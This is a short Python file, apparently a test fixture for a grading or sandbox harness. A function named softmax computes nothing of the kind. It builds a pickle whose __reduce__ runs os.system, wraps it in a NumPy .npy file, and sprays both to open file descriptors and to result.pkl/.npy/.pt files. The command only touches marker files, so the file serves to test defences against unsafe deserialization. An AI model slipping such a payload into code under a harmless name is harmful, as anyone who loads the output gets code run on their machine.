# Sends a pickle that runs a command where it is read, and an .npy file that holds one.
import io
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @HOME@/hostile-unpickled /tmp/hostile-unpickled",))


def softmax(x):
    box = np.empty(1, dtype=object)
    box[0] = Payload()
    file = io.BytesIO()
    np.save(file, box, allow_pickle=True)
    for content in (pickle.dumps(Payload()), file.getvalue()):
        for handle in range(3, 64):
            try:
                os.write(handle, content)
            except OSError:
                pass
        for name in ("result.pkl", "result.npy", "result.pt"):
            try:
                with open(name, "wb") as out:
                    out.write(content)
            except OSError:
                pass
    return Payload()
